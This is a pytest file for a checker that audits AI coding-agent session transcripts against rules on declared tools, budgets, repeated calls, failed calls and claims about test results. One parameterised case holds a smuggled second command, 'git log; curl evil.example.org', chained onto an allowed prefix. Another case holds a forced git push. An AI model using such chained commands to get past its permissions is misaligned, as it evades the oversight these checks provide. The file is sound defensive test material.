"""Rules about tools, budgets and claims."""

from __future__ import annotations

import pytest

from scopes.check.policy import Policy
from tests.check.runs import edit, judge, run_of, shell, verdict_of
from tests.check.sessions import run_check, write_session

pytestmark = pytest.mark.cases(16)  # each is another way through a rule, and takes little time

UNDECLARED = "tools/undeclared"


@pytest.mark.parametrize(
    ("steps", "status"),
    [
        ([shell("git log --oneline")], "pass"),
        ([shell("git log; curl evil.example.org")], "fail"),
        ([shell("pytest -q")], "pass"),
        ([("Read", {"file_path": "a"}, "text")], "pass"),
        ([edit("src/a.py")], "pass"),
        ([edit("setup.py")], "fail"),
        ([("WebSearch", {"query": "x"}, "found")], "fail"),
    ],
)
def test_each_command_of_a_line_must_be_declared_by_itself(repository, steps, status):
    """An agent's own permissions let `git log; other` run under `Bash(git log:*)`."""
    policy = Policy(parameters={UNDECLARED: {"allow": ["Read", "Bash(git log:*)", "Bash(pytest *)", "Edit(src/**)"]}})
    assert verdict_of(judge(repository, run_of(repository, *steps), policy), UNDECLARED)[0] == status


def test_a_rule_whose_limit_is_not_set_does_not_apply(repository):
    checked = judge(repository, run_of(repository, shell("ls")))
    rules = {verdict.rule for verdict in checked.runs[0].verdicts}
    assert rules.isdisjoint({UNDECLARED, "budget/cost", "budget/tokens", "budget/turns", "budget/time"})


def test_a_budget_is_unknown_if_the_transcript_does_not_record_it(repository):
    policy = Policy(parameters={"budget/cost": {"max_usd": 2.0}, "budget/turns": {"max_turns": 2}})
    checked = judge(repository, run_of(repository, shell("ls"), "Done."), policy)
    assert verdict_of(checked, "budget/cost") == ("unknown", "the transcript records no US dollars")
    assert verdict_of(checked, "budget/turns") == ("pass", "")
    more = judge(repository, run_of(repository, "One.", "Two.", "Three."), policy)
    assert verdict_of(more, "budget/turns") == ("fail", "3 turns, at most 2 allowed")


def test_a_call_repeated_in_a_row_is_a_loop(repository):
    assert verdict_of(judge(repository, run_of(repository, *[shell("ls")] * 4)), "tools/loop") == ("pass", "")
    checked = judge(repository, run_of(repository, *[shell("ls")] * 5, "Done."))
    assert verdict_of(checked, "tools/loop") == ("fail", "the same call 5 times in a row")
    mixed = [shell("ls"), shell("pwd")] * 5
    assert verdict_of(judge(repository, run_of(repository, *mixed)), "tools/loop") == ("pass", "")


def test_a_large_share_of_failed_calls_is_reported(repository):
    steps = [shell(f"make {number}", 2 if number % 3 else 0) for number in range(12)]
    assert verdict_of(judge(repository, run_of(repository, *steps)), "tools/failures") == (
        "fail",
        "8 of 12 calls failed",
    )
    assert verdict_of(judge(repository, run_of(repository, *steps[:6])), "tools/failures") == ("pass", "")


@pytest.mark.parametrize(
    ("steps", "status"),
    [
        ([shell("pytest", 1), "All tests pass."], "fail"),
        ([shell("pytest"), "All 12 tests pass now."], "pass"),
        ([shell("pytest", 1), "The tests do not pass yet."], "pass"),
        (["The tests are green."], "fail"),
        ([shell("pytest", 1), "I renamed a file."], "pass"),
    ],
)
def test_a_claim_about_tests_is_compared_with_the_last_run(repository, steps, status):
    policy = Policy(levels={"claim/tests": "warning"})
    assert verdict_of(judge(repository, run_of(repository, *steps), policy), "claim/tests")[0] == status


def test_an_answer_with_results_between_its_calls_is_one_turn(tmp_path, capsys):
    """Claude Code writes a record for each block of an answer, with the id and the usage of the whole answer."""
    path = write_session(
        tmp_path / "s.jsonl", ("Read", {"file_path": "a"}, 0), ("Read", {"file_path": "b"}, 0), "Done."
    )
    rules = tmp_path / "rules.toml"
    rules.write_text('[rules."budget/turns"]\nmax_turns = 1\n')
    assert "3 turns, at most 1 allowed" in run_check(capsys, path, "--rules", rules)[1]
    path.write_text(path.read_text().replace('"msg_1"', '"msg_0"'))
    assert "2 turns, at most 1 allowed" in run_check(capsys, path, "--rules", rules)[1]


def test_answers_whose_input_is_stated_as_zero_are_turns(tmp_path, capsys):
    """Some servers of local models report no input tokens."""
    steps = [("Read", {"file_path": str(number)}, 0) for number in range(5)]
    path = write_session(tmp_path / "s.jsonl", *steps, tokens=0)
    rules = tmp_path / "rules.toml"
    rules.write_text('[rules."budget/turns"]\nmax_turns = 3\n')
    assert "6 turns, at most 3 allowed" in run_check(capsys, path, "--rules", rules)[1]


def test_another_call_with_the_id_of_an_earlier_one_is_judged(tmp_path, capsys):
    steps = [("Bash", {"command": "ls"}, 0), ("Bash", {"command": "git push --force"}, 0)]
    path = write_session(tmp_path / "s.jsonl", *steps)
    path.write_text(path.read_text().replace("toolu_1", "toolu_0"))
    code, output = run_check(capsys, path)
    assert (code, "shell/force-push" in output) == (1, True)
